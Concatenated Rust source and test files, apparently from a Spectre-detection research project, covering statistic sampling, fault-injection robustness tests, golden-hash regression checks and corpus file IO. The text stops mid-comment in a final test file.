        assert!(snap.schema().same_as(&schema), "schema storage is shared");
        assert_eq!(snap.get("g.a"), Some(7.0));
    }

    #[test]
    fn sampler_emits_into_sink_without_accumulating() {
        let mut g = G::default();
        let mut s = Sampler::new(&g, "g");
        let mut t = SampleTrace::new(s.schema().clone());
        g.a.add(4);
        s.sample_into(&g, 10_000, &mut t);
        g.b.add(9);
        s.sample_into(&g, 20_000, &mut t);
        assert_eq!(t.len(), 2);
        assert_eq!(t.row(0), &[4.0, 0.0]);
        assert_eq!(t.row(1), &[0.0, 9.0]);
        assert_eq!(t.instruction_counts(), &[10_000, 20_000]);
    }

    #[test]
    fn trace_columns() {
        let g = G::default();
        let s = Sampler::new(&g, "g");
        let mut t = SampleTrace::new(s.schema().clone());
        t.push(10_000, &[1.0, 2.0]);
        t.push(20_000, &[3.0, 4.0]);
        assert_eq!(t.column("g.b"), Some(vec![2.0, 4.0]));
        assert_eq!(t.instruction_counts(), &[10_000, 20_000]);
        assert_eq!(t.flat_values(), &[1.0, 2.0, 3.0, 4.0]);
    }

    #[test]
    #[should_panic(expected = "row width mismatch")]
    fn trace_rejects_wrong_width() {
        let g = G::default();
        let s = Sampler::new(&g, "g");
        let mut t = SampleTrace::new(s.schema().clone());
        t.push(0, &[1.0]);
    }
}
