//! Sampling machinery: turning repeated stat walks into the
//! multi-dimensional time series the detector trains on.

use std::collections::HashMap;
use std::sync::Arc;

use crate::group::{join_name, StatGroup, StatVisitor};

/// One full walk of a stat group: flat names plus current values.
#[derive(Debug, Clone, Default)]
pub struct Snapshot {
    names: Vec<String>,
    values: Vec<f64>,
}

impl Snapshot {
    /// Walks `group` under `prefix` and captures every statistic.
    pub fn of<G: StatGroup + ?Sized>(group: &G, prefix: &str) -> Self {
        let mut snap = Snapshot::default();
        group.visit(prefix, &mut snap);
        snap
    }

    /// Returns the value of statistic `name`, if present.
    pub fn get(&self, name: &str) -> Option<f64> {
        self.names
            .iter()
            .position(|n| n == name)
            .map(|i| self.values[i])
    }

    /// All statistic names, in visit order.
    pub fn names(&self) -> &[String] {
        &self.names
    }

    /// All values, aligned with [`Snapshot::names`].
    pub fn values(&self) -> &[f64] {
        &self.values
    }

    /// Number of statistics captured.
    pub fn len(&self) -> usize {
        self.names.len()
    }

    /// Whether no statistic was captured.
    pub fn is_empty(&self) -> bool {
        self.names.is_empty()
    }
}

impl StatVisitor for Snapshot {
    fn scalar(&mut self, prefix: &str, name: &str, value: f64) {
        self.names.push(join_name(prefix, name));
        self.values.push(value);
    }
}

/// The (ordered) set of statistic names produced by a stat group walk.
///
/// Built once from the first snapshot; later samples only collect values and
/// assert the count matches, avoiding per-sample string allocation.
#[derive(Debug, Clone)]
pub struct Schema {
    names: Arc<Vec<String>>,
    index: Arc<HashMap<String, usize>>,
}

impl Schema {
    /// Builds a schema from a snapshot's names.
    pub fn from_snapshot(snap: &Snapshot) -> Self {
        let names: Vec<String> = snap.names().to_vec();
        let index = names
            .iter()
            .enumerate()
            .map(|(i, n)| (n.clone(), i))
            .collect();
        Self {
            names: Arc::new(names),
            index: Arc::new(index),
        }
    }

    /// Number of statistics in the schema.
    pub fn len(&self) -> usize {
        self.names.len()
    }

    /// Whether the schema is empty.
    pub fn is_empty(&self) -> bool {
        self.names.is_empty()
    }

    /// All names, in visit order.
    pub fn names(&self) -> &[String] {
        &self.names
    }

    /// The column index of `name`, if present.
    pub fn index_of(&self, name: &str) -> Option<usize> {
        self.index.get(name).copied()
    }

    /// The name of column `i`.
    ///
    /// # Panics
    ///
    /// Panics if `i` is out of range.
    pub fn name(&self, i: usize) -> &str {
        &self.names[i]
    }
}

/// Fast value-only collector reusing an existing [`Schema`].
struct ValueCollector {
    values: Vec<f64>,
}

impl StatVisitor for ValueCollector {
    #[inline]
    fn scalar(&mut self, _prefix: &str, _name: &str, value: f64) {
        self.values.push(value);
    }
}

/// Samples a stat group at intervals, producing per-interval deltas.
///
/// Statistics are cumulative; the paper's traces are per-window activity, so
/// each call to [`Sampler::sample`] returns `current - previous` for every
/// column.
///
/// # Example
///
/// ```
/// use uarch_stats::{stat_group, Counter, Sampler};
///
/// stat_group! {
///     /// Toy.
///     pub struct T { /// c.
///         pub c: Counter => "c" }
/// }
/// let mut t = T::default();
/// let mut s = Sampler::new(&t, "t");
/// t.c.add(5);
/// assert_eq!(s.sample(&t), vec![5.0]);
/// t.c.add(2);
/// assert_eq!(s.sample(&t), vec![2.0]);
/// ```
#[derive(Debug)]
pub struct Sampler {
    schema: Schema,
    prefix: String,
    prev: Vec<f64>,
}

impl Sampler {
    /// Creates a sampler whose baseline is the group's current values.
    pub fn new<G: StatGroup + ?Sized>(group: &G, prefix: &str) -> Self {
        let snap = Snapshot::of(group, prefix);
        let schema = Schema::from_snapshot(&snap);
        Self {
            schema,
            prefix: prefix.to_string(),
            prev: snap.values().to_vec(),
        }
    }

    /// The schema shared by every sample row.
    pub fn schema(&self) -> &Schema {
        &self.schema
    }

    /// Takes a sample: returns per-column deltas since the previous sample
    /// (or since construction) and advances the baseline.
    ///
    /// # Panics
    ///
    /// Panics if the group's walk produces a different number of statistics
    /// than the schema (the group's shape must not change between samples).
    pub fn sample<G: StatGroup + ?Sized>(&mut self, group: &G) -> Vec<f64> {
        let mut c = ValueCollector {
            values: Vec::with_capacity(self.schema.len()),
        };
        group.visit(&self.prefix, &mut c);
        assert_eq!(
            c.values.len(),
            self.schema.len(),
            "stat group shape changed between samples"
        );
        let delta: Vec<f64> = c
            .values
            .iter()
            .zip(&self.prev)
            .map(|(cur, prev)| cur - prev)
            .collect();
        self.prev = c.values;
        delta
    }
}

/// A recorded multi-dimensional time series: one delta row per sampling
/// point, plus the committed-instruction count at each point.
#[derive(Debug, Clone)]
pub struct SampleTrace {
    schema: Schema,
    rows: Vec<Vec<f64>>,
    insts: Vec<u64>,
}

impl SampleTrace {
    /// Creates an empty trace over `schema`.
    pub fn new(schema: Schema) -> Self {
        Self {
            schema,
            rows: Vec::new(),
            insts: Vec::new(),
        }
    }

    /// Appends one sample row taken at `insts` committed instructions.
    ///
    /// # Panics
    ///
    /// Panics if the row width does not match the schema.
    pub fn push(&mut self, insts: u64, row: Vec<f64>) {
        assert_eq!(row.len(), self.schema.len(), "row width mismatch");
        self.rows.push(row);
        self.insts.push(insts);
    }

    /// The schema of every row.
    pub fn schema(&self) -> &Schema {
        &self.schema
    }

    /// The sample rows, oldest first.
    pub fn rows(&self) -> &[Vec<f64>] {
        &self.rows
    }

    /// Committed-instruction counts aligned with [`SampleTrace::rows`].
    pub fn instruction_counts(&self) -> &[u64] {
        &self.insts
    }

    /// Number of samples.
    pub fn len(&self) -> usize {
        self.rows.len()
    }

    /// Whether the trace holds no samples.
    pub fn is_empty(&self) -> bool {
        self.rows.is_empty()
    }

    /// The column of values for statistic `name` across all samples, if the
    /// statistic exists.
    pub fn column(&self, name: &str) -> Option<Vec<f64>> {
        let i = self.schema.index_of(name)?;
        Some(self.rows.iter().map(|r| r[i]).collect())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{stat_group, Counter};

    stat_group! {
        /// Two-counter test group.
        pub struct G {
            /// a.
            pub a: Counter => "a",
            /// b.
            pub b: Counter => "b",
        }
    }

    #[test]
    fn sampler_returns_deltas_not_cumulative() {
        let mut g = G::default();
        g.a.add(10);
        let mut s = Sampler::new(&g, "g");
        g.a.add(5);
        g.b.add(1);
        assert_eq!(s.sample(&g), vec![5.0, 1.0]);
        assert_eq!(s.sample(&g), vec![0.0, 0.0]);
    }

    #[test]
    fn schema_index_lookup() {
        let g = G::default();
        let s = Sampler::new(&g, "g");
        assert_eq!(s.schema().index_of("g.b"), Some(1));
        assert_eq!(s.schema().index_of("g.missing"), None);
        assert_eq!(s.schema().name(0), "g.a");
    }

    #[test]
    fn trace_columns() {
        let g = G::default();
        let s = Sampler::new(&g, "g");
        let mut t = SampleTrace::new(s.schema().clone());
        t.push(10_000, vec![1.0, 2.0]);
        t.push(20_000, vec![3.0, 4.0]);
        assert_eq!(t.column("g.b"), Some(vec![2.0, 4.0]));
        assert_eq!(t.instruction_counts(), &[10_000, 20_000]);
    }

    #[test]
    #[should_panic(expected = "row width mismatch")]
    fn trace_rejects_wrong_width() {
        let g = G::default();
        let s = Sampler::new(&g, "g");
        let mut t = SampleTrace::new(s.schema().clone());
        t.push(0, vec![1.0]);
    }
}
