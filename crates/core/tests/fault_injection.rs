//! The fault-injection suite: the robustness acceptance bar for the
//! streaming pipeline.
//!
//! Three properties are enforced here, end to end:
//!
//! 1. **Determinism** — a [`FaultPlan`] keys every workload's fault stream
//!    on `(plan seed, workload name)` only, so a faulted corpus is
//!    byte-identical no matter how many collection threads ran.
//! 2. **Containment** — a workload that deadlocks (or panics) is
//!    quarantined with a typed error by the resilient collector; the rest
//!    of the corpus survives, nothing aborts, nothing hangs.
//! 3. **Graceful degradation** — the online detector never panics and
//!    never emits a non-finite confidence, whatever the fault plan throws
//!    at it; degraded windows are flagged, not silently misscored.

use proptest::prelude::*;

use perspectron::trace::stream_trace;
use perspectron::{
    CollectedCorpus, CorpusSpec, FaultPlan, FaultSpec, PerSpectron, ResiliencePolicy,
};
use sim_cpu::SimError;
use uarch_isa::{Assembler, Reg};
use workloads::{Class, Family, Workload};

/// A two-workload spec small enough to collect several times per test.
fn tiny_spec() -> CorpusSpec {
    let mut all = workloads::full_suite();
    all.retain(|w| w.name == "flush-reload" || w.name == "hmmer");
    CorpusSpec {
        insts_per_workload: 30_000,
        sample_interval: 10_000,
        workloads: all,
    }
}

/// A runaway program: an endless flush+reload self-loop that pays a full
/// memory miss every iteration (~22 cycles/instruction — an order of
/// magnitude over any healthy workload in the suite) and never halts.
/// Within a per-workload cycle budget sized for healthy workloads, only
/// the watchdog can stop it.
fn wedged_workload() -> Workload {
    let mut a = Assembler::new("wedged-forever");
    a.data(0x1000, vec![0u8; 64]);
    a.li(Reg::R2, 0x1000);
    let top = a.label();
    a.bind(top);
    a.flush(Reg::R2, 0);
    a.load(Reg::R1, Reg::R2, 0);
    a.jmp(top);
    let program = a.finish().expect("wedge program assembles");
    Workload {
        name: "wedged-forever".into(),
        class: Class::Benign,
        family: Family::Benign,
        program,
    }
}

/// Bitwise value comparison: corrupted traces legitimately contain NaN,
/// which `==` would call unequal even when the bytes match.
fn bits(values: &[f64]) -> Vec<u64> {
    values.iter().map(|v| v.to_bits()).collect()
}

fn assert_corpora_byte_equal(a: &CollectedCorpus, b: &CollectedCorpus, what: &str) {
    assert_eq!(a.traces.len(), b.traces.len(), "{what}: trace count");
    for (ta, tb) in a.traces.iter().zip(&b.traces) {
        assert_eq!(ta.name, tb.name, "{what}: order");
        assert_eq!(
            bits(ta.trace.flat_values()),
            bits(tb.trace.flat_values()),
            "{what}: values of {}",
            ta.name
        );
        assert_eq!(
            ta.trace.instruction_counts(),
            tb.trace.instruction_counts(),
            "{what}: instruction counts of {}",
            ta.name
        );
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(4))]

    /// Same plan, any thread count: byte-identical faulted corpora.
    #[test]
    fn faulted_collection_is_thread_count_independent(
        seed in 0u64..u64::MAX,
        dropout in 0.0f64..0.3,
        row_drop in 0.0f64..0.2,
        corruption in 0.0f64..0.1,
        jitter in 0u64..500,
    ) {
        let spec = tiny_spec();
        let clean = spec.try_collect_serial().expect("clean collection");
        let plan = FaultPlan::new(
            FaultSpec {
                seed,
                component_dropout: dropout,
                row_drop,
                corruption,
                interval_jitter: jitter,
            },
            clean.schema(),
        );
        let one = spec.try_collect_faulted(&plan, 1).expect("1 thread");
        let two = spec.try_collect_faulted(&plan, 2).expect("2 threads");
        let four = spec.try_collect_faulted(&plan, 4).expect("4 threads");
        assert_corpora_byte_equal(&one, &two, "1 vs 2 threads");
        assert_corpora_byte_equal(&one, &four, "1 vs 4 threads");
    }

    /// No fault plan can make the online detector panic or emit a
    /// non-finite confidence; degraded windows are flagged as such.
    #[test]
    fn detector_confidences_stay_finite_under_any_fault_plan(
        seed in 0u64..u64::MAX,
        dropout in 0.0f64..0.9,
        corruption in 0.0f64..0.9,
    ) {
        let spec = tiny_spec();
        let corpus = spec.try_collect_serial().expect("clean collection");
        let detector = PerSpectron::train(&corpus, 42);
        let plan = FaultPlan::new(
            FaultSpec {
                seed,
                component_dropout: dropout,
                row_drop: 0.1,
                corruption,
                interval_jitter: 1_000,
            },
            corpus.schema(),
        );
        for w in &spec.workloads {
            let mut sink = plan.sink_for(&w.name, detector.streaming());
            stream_trace(w, spec.insts_per_workload, spec.sample_interval, &mut sink);
            let monitor = sink.into_inner();
            for v in monitor.verdicts() {
                prop_assert!(
                    v.confidence.is_finite(),
                    "{}: non-finite confidence at {} insts",
                    w.name,
                    v.at_inst
                );
                prop_assert!((-1.0..=1.0).contains(&v.confidence));
            }
        }
    }
}

/// A workload that never halts is cut off by the cycle budget and lands in
/// quarantine with a typed error; the healthy workloads still collect.
/// The whole test completing is itself the no-hang assertion.
#[test]
fn infinite_loop_workload_is_quarantined_not_hung() {
    let mut spec = tiny_spec();
    spec.workloads.insert(1, wedged_workload());
    let policy = ResiliencePolicy {
        threads: Some(2),
        cycle_budget: Some(400_000),
        ..ResiliencePolicy::default()
    };
    let result = spec.try_collect_resilient(&policy);
    assert!(!result.is_complete());
    assert_eq!(result.corpus.traces.len(), 2, "healthy workloads survive");
    assert!(result
        .corpus
        .traces
        .iter()
        .all(|t| t.name != "wedged-forever"));
    assert_eq!(result.failures.len(), 1);
    let failure = &result.failures[0];
    assert_eq!(failure.name, "wedged-forever");
    assert_eq!(failure.attempts, 2, "the watchdog fires on the retry too");
    assert!(
        matches!(
            failure.error,
            SimError::CycleBudgetExceeded {
                budget: 400_000,
                ..
            }
        ),
        "got: {}",
        failure.error
    );
    // The partial corpus is still trainable.
    let detector = PerSpectron::train(&result.corpus, 42);
    let report = detector.evaluate(&result.corpus);
    assert!(report.confusion.accuracy() > 0.5);
}

/// The same budget that quarantines a spin loop does not fire on healthy
/// workloads: the full corpus collects and quarantine stays empty.
#[test]
fn cycle_budget_leaves_healthy_workloads_alone() {
    let spec = tiny_spec();
    let result = spec.try_collect_resilient(&ResiliencePolicy {
        threads: Some(2),
        cycle_budget: Some(100_000_000),
        ..ResiliencePolicy::default()
    });
    assert!(result.is_complete(), "{}", result.quarantine_summary());
    assert_eq!(result.corpus.traces.len(), 2);
}

/// With the quiet spec, the entire faulted path — sink adapter included —
/// is bit-identical to the plain collector, and a detector streamed
/// through a quiet [`perspectron::FaultySink`] produces verdicts
/// bit-identical to the bare streaming detector.
#[test]
fn quiet_fault_plan_is_bit_identical_end_to_end() {
    let spec = tiny_spec();
    let clean = spec.try_collect_serial().expect("clean collection");
    let plan = FaultPlan::new(FaultSpec::none(), clean.schema());
    let faulted = spec.try_collect_faulted(&plan, 2).expect("quiet plan");
    assert_corpora_byte_equal(&clean, &faulted, "quiet plan vs clean");

    let detector = PerSpectron::train(&clean, 42);
    let w = &spec.workloads[0];
    let mut bare = detector.streaming();
    stream_trace(w, spec.insts_per_workload, spec.sample_interval, &mut bare);
    let mut wrapped = plan.sink_for(&w.name, detector.streaming());
    stream_trace(
        w,
        spec.insts_per_workload,
        spec.sample_interval,
        &mut wrapped,
    );
    assert!(!wrapped.log().any(), "quiet plan must log no faults");
    let wrapped = wrapped.into_inner();
    assert_eq!(bare.verdicts(), wrapped.verdicts());
    assert!(bare.verdicts().iter().all(|v| v.degraded.is_none()));
}

/// Heavy dropout is visible: the detector reports degraded intervals with
/// the dead components named, instead of silently scoring garbage.
#[test]
fn heavy_dropout_surfaces_degraded_intervals() {
    let spec = tiny_spec();
    let corpus = spec.try_collect_serial().expect("clean collection");
    let detector = PerSpectron::train(&corpus, 42);
    let plan = FaultPlan::new(
        FaultSpec {
            seed: 7,
            component_dropout: 0.9,
            row_drop: 0.0,
            corruption: 0.3,
            interval_jitter: 0,
        },
        corpus.schema(),
    );
    let w = &spec.workloads[0];
    let mut sink = plan.sink_for(&w.name, detector.streaming());
    stream_trace(w, spec.insts_per_workload, spec.sample_interval, &mut sink);
    assert!(sink.log().any(), "a 90% dropout plan must actually fire");
    let monitor = sink.into_inner();
    assert!(
        monitor.degraded_intervals() > 0,
        "dropout this heavy must be flagged"
    );
    let flagged = monitor
        .verdicts()
        .iter()
        .filter_map(|v| v.degraded.as_ref())
        .any(|d| !d.missing_components.is_empty() || d.sanitized_values > 0);
    assert!(flagged, "degraded status must carry detail");
}
