//! Golden stat snapshot: pins the exact bits every `CorpusSpec::quick()`
//! sample row (and the driving `RunSummary`) produced *before* the pipeline
//! decomposition. Any refactoring of the core must reproduce these hashes —
//! a single flipped mantissa bit anywhere in the 1159-column trace fails
//! this test.
//!
//! The constants were captured from the monolithic pre-decomposition `Core`
//! (commit `ca74781`); `cargo test --release golden -- --nocapture` prints
//! the recomputed values on mismatch.

use perspectron::{CorpusSpec, ScenarioSpec};
use sim_cpu::{Core, CoreConfig};
use workloads::{CoreScenario, Family};

/// FNV-1a over the full quick-corpus byte stream (schema names, per-trace
/// metadata, instruction counts, raw `f64` row bits, mark events).
const GOLDEN_QUICK_CORPUS_FNV: u64 = 0x283f080699ad2562;

/// `RunSummary` of a 120k-instruction run of `spectre-v1-classic` under the
/// default Table II configuration.
const GOLDEN_SPECTRE_COMMITTED: u64 = 120_000;
const GOLDEN_SPECTRE_CYCLES: u64 = 1_158_003;
const GOLDEN_SPECTRE_HALTED: bool = false;

struct Fnv(u64);

impl Fnv {
    fn new() -> Self {
        Fnv(0xcbf2_9ce4_8422_2325)
    }
    fn bytes(&mut self, bytes: &[u8]) {
        for &b in bytes {
            self.0 ^= u64::from(b);
            self.0 = self.0.wrapping_mul(0x0000_0100_0000_01b3);
        }
    }
    fn u64(&mut self, v: u64) {
        self.bytes(&v.to_le_bytes());
    }
    fn str(&mut self, s: &str) {
        self.bytes(s.as_bytes());
        self.bytes(&[0xff]); // separator
    }
}

#[test]
fn quick_corpus_rows_match_the_pre_decomposition_golden_hash() {
    let corpus = CorpusSpec::quick().collect_serial();
    let h = corpus_fnv(&corpus);
    assert_eq!(
        h, GOLDEN_QUICK_CORPUS_FNV,
        "quick-corpus stat rows diverged from the pre-decomposition golden \
         snapshot (recomputed hash: {h:#018x})"
    );
}

/// FNV-1a over a collected corpus, byte-identical to the hashing in
/// `quick_corpus_rows_match_the_pre_decomposition_golden_hash`.
fn corpus_fnv(corpus: &perspectron::CollectedCorpus) -> u64 {
    let mut h = Fnv::new();
    let schema = corpus.schema();
    h.u64(schema.len() as u64);
    for name in schema.names() {
        h.str(name);
    }
    for t in &corpus.traces {
        h.str(&t.name);
        h.str(&format!("{:?}/{:?}", t.class, t.family));
        for &insts in t.trace.instruction_counts() {
            h.u64(insts);
        }
        for &v in t.trace.flat_values() {
            h.u64(v.to_bits());
        }
        for m in &t.marks {
            h.str(&format!("{:?}", m.kind));
            h.u64(m.at_inst);
            h.u64(m.at_cycle);
        }
    }
    h.0
}

/// The multi-core refactor's bit-identity gate: collecting the quick
/// corpus through the `Machine` path — every workload wrapped as a
/// one-core scenario, private L1s behind the shared (mutex-held) uncore,
/// the machine run loop and machine stat walk — must reproduce the exact
/// pre-refactor golden hash: same 1159 flat names, same row bits, same
/// marks.
#[test]
fn quick_corpus_through_the_machine_path_matches_the_same_golden_hash() {
    let spec = CorpusSpec::quick();
    let scenarios = ScenarioSpec {
        insts_per_scenario: spec.insts_per_workload,
        sample_interval: spec.sample_interval,
        scenarios: spec
            .workloads
            .iter()
            .map(|w| CoreScenario {
                name: w.name.clone(),
                class: w.class,
                family: w.family,
                programs: vec![w.program.clone()],
            })
            .collect(),
    };
    let corpus = scenarios
        .try_collect_with_threads(1)
        .expect("machine-path collection succeeds");
    assert_eq!(
        corpus_fnv(&corpus),
        GOLDEN_QUICK_CORPUS_FNV,
        "one-core Machine collection diverged from the single-core golden \
         snapshot (recomputed hash: {:#018x})",
        corpus_fnv(&corpus)
    );
}

#[test]
fn spectre_run_summary_matches_the_pre_decomposition_golden() {
    let spec = CorpusSpec::quick();
    let w = spec
        .workloads
        .iter()
        .find(|w| w.family == Family::SpectreV1)
        .expect("quick suite includes a Spectre V1 workload");

    let mut core = Core::new(CoreConfig::default(), w.program.clone());
    core.set_noise_seed(perspectron::trace::workload_seed(&w.name));
    let summary = core.run(120_000);

    assert_eq!(
        (summary.committed, summary.cycles, summary.halted),
        (
            GOLDEN_SPECTRE_COMMITTED,
            GOLDEN_SPECTRE_CYCLES,
            GOLDEN_SPECTRE_HALTED
        ),
        "RunSummary diverged for {} (got {summary:?})",
        w.name
    );
}
