//! Corpus IO contract: write → mmap-read is byte-identical, corruption
//! is rejected with typed errors, and the header layout is pinned
//! little-endian by a golden fixture so the format can never silently
//! drift with host endianness or struct layout.

use std::io::Write;
use std::path::PathBuf;

use perspectron::corpus_io::{self, corpus_to_bytes, CorpusIoError, HEADER_LEN, MAGIC, VERSION};
use perspectron::{CorpusReader, CorpusSpec};

fn tmp_path(tag: &str) -> PathBuf {
    std::env::temp_dir().join(format!(
        "perspectron_corpus_{tag}_{}_{tid:?}",
        std::process::id(),
        tid = std::thread::current().id()
    ))
}

/// A couple of real simulator traces, small enough for CI.
fn tiny_corpus() -> perspectron::CollectedCorpus {
    let mut spec = CorpusSpec::quick();
    spec.workloads.truncate(3);
    spec.collect_serial()
}

#[test]
fn write_then_mmap_read_round_trips_byte_identically() {
    let corpus = tiny_corpus();
    let path = tmp_path("roundtrip");
    corpus_io::write_corpus(&path, &corpus).expect("write");

    let reader = CorpusReader::open(&path).expect("open");
    assert!(
        reader.is_mapped(),
        "unix test hosts should take the mmap path"
    );
    assert_eq!(reader.sample_interval(), corpus.sample_interval);
    assert_eq!(reader.n_traces(), corpus.traces.len());
    assert_eq!(reader.schema().names(), corpus.schema().names());

    let loaded = reader.load_all().expect("load_all");
    assert_eq!(loaded.sample_interval, corpus.sample_interval);
    for (orig, back) in corpus.traces.iter().zip(&loaded.traces) {
        assert_eq!(orig.name, back.name);
        assert_eq!(orig.class, back.class);
        assert_eq!(orig.family, back.family);
        assert_eq!(orig.marks, back.marks);
        assert_eq!(
            orig.trace.instruction_counts(),
            back.trace.instruction_counts()
        );
        // Sample values must survive the trip bit-for-bit, not just
        // approximately: compare the raw f64 bit patterns.
        let a = orig.trace.flat_values();
        let b = back.trace.flat_values();
        assert_eq!(a.len(), b.len());
        for (x, y) in a.iter().zip(b) {
            assert_eq!(x.to_bits(), y.to_bits(), "value drifted in {}", orig.name);
        }
    }
    std::fs::remove_file(&path).ok();
}

#[test]
fn pread_fallback_reads_the_same_bytes_as_the_map() {
    let corpus = tiny_corpus();
    let path = tmp_path("pread");
    corpus_io::write_corpus(&path, &corpus).expect("write");

    let mapped = CorpusReader::open(&path).expect("open mapped");
    let pread = CorpusReader::open_pread(&path).expect("open pread");
    assert!(!pread.is_mapped());

    let n_cols = mapped.schema().len();
    let mut row_a = Vec::new();
    let mut row_b = Vec::new();
    for t in 0..mapped.n_traces() {
        for j in 0..mapped.trace_meta(t).rows {
            let ia = mapped.read_row(t, j, &mut row_a).expect("mapped row");
            let ib = pread.read_row(t, j, &mut row_b).expect("pread row");
            assert_eq!(ia, ib);
            assert_eq!(row_a.len(), n_cols);
            for (x, y) in row_a.iter().zip(&row_b) {
                assert_eq!(x.to_bits(), y.to_bits());
            }
        }
    }
    std::fs::remove_file(&path).ok();
}

#[test]
fn blocked_reads_match_row_gathers() {
    let corpus = tiny_corpus();
    let path = tmp_path("blocked");
    corpus_io::write_corpus(&path, &corpus).expect("write");
    let reader = CorpusReader::open(&path).expect("open");

    let n_cols = reader.schema().len();
    let mut insts = Vec::new();
    let mut block = Vec::new();
    let mut row = Vec::new();
    for t in 0..reader.n_traces() {
        let rows = reader.trace_meta(t).rows;
        // An uneven block start/length exercises the offset arithmetic.
        let j0 = rows / 3;
        let count = (rows - j0).min(5);
        reader
            .read_rows(t, j0, count, &mut insts, &mut block)
            .expect("read_rows");
        for r in 0..count {
            let at = reader.read_row(t, j0 + r, &mut row).expect("read_row");
            assert_eq!(at, insts[r]);
            for (x, y) in row.iter().zip(&block[r * n_cols..(r + 1) * n_cols]) {
                assert_eq!(x.to_bits(), y.to_bits());
            }
        }
    }
    std::fs::remove_file(&path).ok();
}

#[test]
fn truncated_files_are_rejected_with_a_typed_error() {
    let corpus = tiny_corpus();
    let bytes = corpus_to_bytes(&corpus);

    // Chop mid-payload: the header's promised length no longer matches.
    let path = tmp_path("truncated");
    std::fs::write(&path, &bytes[..bytes.len() - 64]).expect("write truncated");
    match CorpusReader::open(&path) {
        Err(CorpusIoError::Truncated { expected, actual }) => {
            assert_eq!(expected, bytes.len() as u64);
            assert_eq!(actual, (bytes.len() - 64) as u64);
        }
        other => panic!("expected Truncated, got {other:?}"),
    }

    // A file shorter than the fixed header is also Truncated, not a parse
    // panic.
    std::fs::write(&path, &bytes[..HEADER_LEN / 2]).expect("write stub");
    assert!(matches!(
        CorpusReader::open(&path),
        Err(CorpusIoError::Truncated { .. })
    ));
    std::fs::remove_file(&path).ok();
}

#[test]
fn corrupted_payloads_fail_the_checksum() {
    let corpus = tiny_corpus();
    let mut bytes = corpus_to_bytes(&corpus);

    // Flip one bit deep inside the column pages; length still matches.
    let victim = bytes.len() - 9;
    bytes[victim] ^= 0x40;
    let path = tmp_path("checksum");
    std::fs::write(&path, &bytes).expect("write corrupted");
    assert!(matches!(
        CorpusReader::open(&path),
        Err(CorpusIoError::ChecksumMismatch { .. })
    ));
    std::fs::remove_file(&path).ok();
}

#[test]
fn wrong_magic_and_future_versions_are_rejected() {
    let corpus = tiny_corpus();
    let bytes = corpus_to_bytes(&corpus);

    let path = tmp_path("magic");
    let mut evil = bytes.clone();
    evil[..4].copy_from_slice(b"ELF\x7f");
    std::fs::write(&path, &evil).expect("write");
    match CorpusReader::open(&path) {
        Err(CorpusIoError::BadMagic(m)) => assert_eq!(&m, b"ELF\x7f"),
        other => panic!("expected BadMagic, got {other:?}"),
    }

    let mut future = bytes;
    future[4..8].copy_from_slice(&(VERSION + 1).to_le_bytes());
    std::fs::write(&path, &future).expect("write");
    assert!(matches!(
        CorpusReader::open(&path),
        Err(CorpusIoError::UnsupportedVersion(v)) if v == VERSION + 1
    ));
    std::fs::remove_file(&path).ok();
}

/// Pins the exact on-disk header bytes for a hand-built two-trace corpus.
/// Every field is little-endian **by definition**; if this test fails on
/// any host, the format — not the test — is wrong.
#[test]
fn golden_header_fixture_is_endianness_pinned() {
    use sim_cpu::MarkEvent;
    use uarch_isa::MarkKind;
    use uarch_stats::{SampleTrace, Schema};
    use workloads::{Class, Family};

    let schema = Schema::from_names(vec!["alpha".into(), "b".into()]);
    let mut t0 = SampleTrace::new(schema.clone());
    t0.push(10_000, &[1.0, 2.5]);
    t0.push(20_000, &[3.0, -0.5]);
    let mut t1 = SampleTrace::new(schema);
    t1.push(10_000, &[0.0, f64::from_bits(0x0123_4567_89ab_cdef)]);
    let corpus = perspectron::CollectedCorpus {
        traces: vec![
            perspectron::LabeledTrace {
                name: "spectre_v1".into(),
                class: Class::Malicious,
                family: Family::SpectreV1,
                trace: t0,
                marks: vec![MarkEvent {
                    kind: MarkKind::LeakByte,
                    at_inst: 0x1122,
                    at_cycle: 0x3344,
                }],
            },
            perspectron::LabeledTrace {
                name: "idle".into(),
                class: Class::Benign,
                family: Family::Benign,
                trace: t1,
                marks: vec![],
            },
        ],
        sample_interval: 10_000,
    };

    let bytes = corpus_to_bytes(&corpus);

    // -- fixed header ------------------------------------------------
    let mut golden = Vec::new();
    golden.extend_from_slice(&MAGIC); // "PSPC"
    golden.extend_from_slice(&1u32.to_le_bytes()); // version
    golden.extend_from_slice(&2u32.to_le_bytes()); // n_traces
    golden.extend_from_slice(&2u32.to_le_bytes()); // n_cols
    golden.extend_from_slice(&10_000u64.to_le_bytes()); // sample interval
    let payload_len = (bytes.len() - HEADER_LEN) as u64;
    golden.extend_from_slice(&payload_len.to_le_bytes());
    // checksum + reserved checked structurally below
    assert_eq!(&bytes[..32], &golden[..32], "fixed header bytes drifted");
    assert_eq!(&bytes[40..48], &[0u8; 8], "reserved word must be zero");

    // -- payload front: name table then trace directory --------------
    let p = &bytes[HEADER_LEN..];
    let mut golden_front = Vec::new();
    for s in ["alpha", "b", "spectre_v1"] {
        golden_front.extend_from_slice(&(s.len() as u32).to_le_bytes());
        golden_front.extend_from_slice(s.as_bytes());
    }
    golden_front.push(0); // class: Malicious
    golden_front.push(0); // family: SpectreV1
    golden_front.extend_from_slice(&0u16.to_le_bytes()); // padding
    golden_front.extend_from_slice(&2u32.to_le_bytes()); // rows
    golden_front.extend_from_slice(&1u32.to_le_bytes()); // marks
    golden_front.push(0); // MarkKind::LeakByte
    golden_front.extend_from_slice(&0x1122u64.to_le_bytes());
    golden_front.extend_from_slice(&0x3344u64.to_le_bytes());
    assert_eq!(&p[..golden_front.len()], &golden_front[..]);

    // -- round-trip sanity on the exotic bit pattern ------------------
    let path = tmp_path("golden");
    std::fs::File::create(&path)
        .and_then(|mut f| f.write_all(&bytes))
        .expect("write");
    let reader = CorpusReader::open(&path).expect("open");
    let back = reader.load_all().expect("load");
    assert_eq!(
        back.traces[1].trace.flat_values()[1].to_bits(),
        0x0123_4567_89ab_cdef
    );
    std::fs::remove_file(&path).ok();
}
