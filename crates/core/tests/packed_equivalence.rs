//! Packed/scalar inference equivalence: the bit-packed fast path must be
//! a pure refactoring of the dense `f64` reference path — every verdict,
//! every confidence bit, and every `Degraded` flag identical — over real
//! corpora, heavily faulted corpora, and proptest-random inputs.
//!
//! The equivalence claimed here is *bitwise*, not approximate: because
//! binarized inputs are exactly 0.0/1.0, the packed engine's sparse
//! gather reproduces the dense IEEE-754 dot product bit for bit, so
